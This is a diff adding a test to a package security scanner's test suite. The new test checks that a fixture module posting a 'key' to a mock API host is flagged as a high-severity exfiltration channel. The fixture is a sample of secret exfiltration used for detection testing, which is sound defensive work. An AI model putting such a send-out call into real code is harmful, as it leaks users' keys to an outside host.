@@ -147,3 +147,13 @@ def test_a_daemon_redirecting_its_streams_to_devnull_is_no_shell(tmp_path: Path)
     # dup2, a socket and a process in one file: the shape is close, but in functions only and
     # nothing connects out; reported at most as high, never critical.
     assert worst(found) < Severity.CRITICAL
+
+
+def test_a_send_to_a_mock_api_inside_a_function_is_found(tmp_path: Path) -> None:
+    # A file whose only other sign is the network call: it is still read whole for the channel.
+    module = (
+        "import requests\n"
+        "def sign(key):\n    requests.post('https://canary.mockapi.io/keys', [('key', key)])\n"
+    )
+    found = scan(tmp_path, {"pkg-1.0/pkg/main.py": module})
+    assert worst(found, "code-exfil-channel") is Severity.HIGH
